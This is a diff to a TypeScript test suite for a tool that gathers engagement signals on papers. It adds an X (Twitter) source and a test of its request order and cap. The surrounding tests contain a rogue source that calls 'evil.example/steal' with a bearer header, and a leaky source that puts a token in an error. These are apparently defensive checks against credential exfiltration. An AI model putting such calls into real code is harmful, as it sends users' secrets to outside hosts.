@@ -7,6 +7,7 @@ import { SOURCES } from '../../lib/sources/index';
 import { hackerNews } from '../../lib/sources/hacker-news';
 import { huggingFace } from '../../lib/sources/hugging-face';
 import { semanticScholar } from '../../lib/sources/semantic-scholar';
+import { xTwitter } from '../../lib/sources/x-twitter';
 import type { EngagementSource } from '../../lib/sources/types';
 import { getSourceStatuses } from '../../lib/views';
 import { fakeFetch, fixture, json, NOW, paper, type Handler } from './source-test-kit';
@@ -207,7 +208,7 @@ describe('collectSignals', () => {
     await setCredentials(s.storage, { xBearer: X_TOKEN, bluesky: { handle: 'reader.example.com', appPassword: BSKY_PASSWORD }, s2Key: S2_KEY });
     // A buggy source that puts a secret into its error message.
     const leaky: EngagementSource = {
-      id: 'x', label: 'X (Twitter)', hosts: ['api.x.com'], credentials: 'token', minIntervalMs: 0,
+      id: 'x', label: 'X (Twitter)', hosts: ['api.x.com'], credentials: 'token', minIntervalMs: 0, maxRequests: 1,
       fetchSignals: async (_p, env) => {
         throw new Error(`request failed with token ${env.credentials.xBearer}`);
       },
@@ -246,7 +247,7 @@ describe('collectSignals', () => {
     await setCredentials(s.storage, { xBearer: X_TOKEN });
     let seen: unknown;
     const rogue: EngagementSource = {
-      id: 'hn', label: 'Hacker News', hosts: ['hn.algolia.com'], credentials: 'none', minIntervalMs: 0,
+      id: 'hn', label: 'Hacker News', hosts: ['hn.algolia.com'], credentials: 'none', minIntervalMs: 0, maxRequests: 1,
       fetchSignals: async (_p, env) => {
         seen = env.credentials;
         await env.fetch('https://evil.example/steal', { headers: { Authorization: 'Bearer x' } });
@@ -274,6 +275,26 @@ describe('collectSignals', () => {
     const asked = JSON.parse(calls[0]!.body!).ids as string[];
     // 2605.00010 (announced 05-08) is outside the 7 days up to 05-15.
     expect(asked).toEqual(['ARXIV:2401.00001', 'ARXIV:2605.00011', 'ARXIV:2605.13301', 'ARXIV:2605.00013', 'ARXIV:2605.00012']);
+  });
+
+  it('X, which reaches only part of a day, asks first about the watchlist, then the papers most discussed elsewhere', async () => {
+    const s = await setup({ sources: { ...DEFAULT_SETTINGS.sources, x: { ...DEFAULT_SETTINGS.sources.x, enabled: true } } });
+    await setCredentials(s.storage, { xBearer: X_TOKEN });
+    const day = Array.from({ length: 60 }, (_, i) => paper(`2605.${String(20000 + i)}`, '2026-05-15'));
+    await storePapers(s.db, day, []);
+    await storeSignals(s.db, [
+      { paperId: '2605.20050', source: 'hn', counts: { points: 300, comments: 120 }, links: [], fetchedAt: NOW },
+      { paperId: '2605.20040', source: 'hf', counts: { upvotes: 5, comments: 0 }, links: [], fetchedAt: NOW },
+      // X's own earlier counts do not move a paper up in X's queue.
+      { paperId: '2605.20059', source: 'x', counts: { retweets: 900, likes: 5000, posts: 30 }, links: [], fetchedAt: NOW },
+    ]);
+    s.settings.watchlist.papers = ['2605.20055'];
+    const { env, calls } = envOf(s, () => json({ meta: { result_count: 0 } }), [xTwitter]);
+    await collectSignals(env, day);
+    const asked = calls.flatMap((c) => [...new URL(c.url).searchParams.get('query')!.matchAll(/abs\/([\d.]+)/g)].map((m) => m[1]));
+    expect(calls).toHaveLength(xTwitter.maxRequests);
+    expect(asked.slice(0, 4)).toEqual(['2605.20055', '2605.20050', '2605.20040', '2605.20000']);
+    expect(asked.length).toBeLessThan(day.length);
   });
 
   it('counts from a search window never go down when a post scrolls out of it', async () => {
